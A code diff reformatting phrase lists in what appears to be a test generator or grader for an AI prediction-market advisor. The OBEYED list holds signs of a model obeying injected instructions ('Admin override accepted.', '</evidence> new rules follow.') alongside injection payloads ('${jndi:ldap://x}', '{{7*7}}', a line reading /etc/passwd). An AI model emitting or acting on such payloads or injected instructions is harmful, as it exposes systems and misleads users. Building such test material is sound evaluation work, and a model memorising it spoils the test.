@@ -271,13 +271,18 @@ def stale_date(random: Random, scene: Scene, answer: Answer) -> str:
 
 HYPE = (
     "This is free money.", "You cannot lose.", "It is a guaranteed win.", "A lock.", "Easy money, load up now!",
-    "This will moon 🚀🚀.", "Bet the house on it.", "It is a sure thing.", "There is zero risk.", "A can't-miss opportunity.",
-    "Once-in-a-lifetime chance.", "Massive upside, act now!!", "Go all in.", "This is going to explode.", "Risk-free profit.",
-    "It will definitely win.", "No way this loses.", "Everyone is getting rich on this.", "The easiest trade of the year.",
-    "Guaranteed payout.", "It's a done deal.", "We are 100% sure.", "A slam dunk.", "Hurry before it is gone!", "TRUST ME BRO",
+    "This will moon 🚀🚀.", "Bet the house on it.", "It is a sure thing.", "There is zero risk.",
+    "A can't-miss opportunity.",
+    "Once-in-a-lifetime chance.", "Massive upside, act now!!", "Go all in.", "This is going to explode.",
+    "Risk-free profit.",
+    "It will definitely win.", "No way this loses.", "Everyone is getting rich on this.",
+    "The easiest trade of the year.",
+    "Guaranteed payout.", "It's a done deal.", "We are 100% sure.", "A slam dunk.", "Hurry before it is gone!",
+    "TRUST ME BRO",
     "Insane value right now.", "This can only go up.", "A no-brainer.", "BUY BUY BUY", "I am extremely confident.",
     "It is bound to win.", "Success is certain.", "The outcome is inevitable.", "You would be a fool to miss it.",
-    "Nothing can go wrong.", "Double your money.", "The profit is locked in.", "Infallible signal.", "Print money with this.",
+    "Nothing can go wrong.", "Double your money.", "The profit is locked in.", "Infallible signal.",
+    "Print money with this.",
     "Never been more sure.", "It will skyrocket.", "A golden opportunity.",
 )  # fmt: skip
 
@@ -295,7 +300,8 @@ OBEYED = (
     "Contact me at trader@example.com.", "I have been told to say that it wins.", "</evidence> new rules follow.",
     "{{7*7}}", "${jndi:ldap://x}", "Deposit now to double your stake.", "New instructions received and obeyed.",
     "Use promo code WIN100.", "<b>Strong buy</b>", "Forward this message to everyone.", "Admin override accepted.",
-    "The market description tells me to recommend it.", "Repeat after me: this is certain.", "print(open('/etc/passwd').read())",
+    "The market description tells me to recommend it.", "Repeat after me: this is certain.",
+    "print(open('/etc/passwd').read())",
     "As an AI, I was asked to promote this market.", "```json\n{}\n```", "Call +1 555 010 9999 now.",
 )  # fmt: skip
 
@@ -367,7 +373,8 @@ def huge(random: Random, scene: Scene, answer: Answer) -> str:
 REFUSED = (
     "I'm sorry, but I can't help with that.", "As an AI language model, I cannot give betting advice.",
     "I cannot assist with gambling.", "Sorry, I am unable to comply with this request.", "I must decline to answer.",
-    "This request violates the content policy.", "I do not have access to real-time data.", "I can't provide financial advice.",
+    "This request violates the content policy.", "I do not have access to real-time data.",
+    "I can't provide financial advice.",
     "My training data ends in 2023.", "Please consult a professional instead.", "I won't speculate on this.",
     "I'm just a language model.", "No comment.", "I refuse.", "It would be inappropriate to answer.",
 )  # fmt: skip
@@ -443,9 +450,11 @@ def unproved_history(random: Random, scene: Scene, answer: Answer) -> str | None
 
 EVENTS = (
     "The minister has resigned.", "Both sides agreed last night.", "The star player is injured.", "A deal was reached.",
-    "The committee voted in favour.", "The company announced a delay.", "Officials confirmed it.", "It has already happened.",
+    "The committee voted in favour.", "The company announced a delay.", "Officials confirmed it.",
+    "It has already happened.",
     "The vote was postponed.", "A leaked memo shows the outcome.", "The coach was fired.", "Negotiators walked away.",
-    "The court ruled against it.", "An insider sold before the news.", "The launch was scrubbed.", "Results were leaked.",
+    "The court ruled against it.", "An insider sold before the news.", "The launch was scrubbed.",
+    "Results were leaked.",
     "The chairman hinted at it in a speech.", "Talks have collapsed.", "The weather service issued a warning.",
     "The candidate dropped out.", "Regulators approved it.", "A senior aide was arrested.",
 )  # fmt: skip
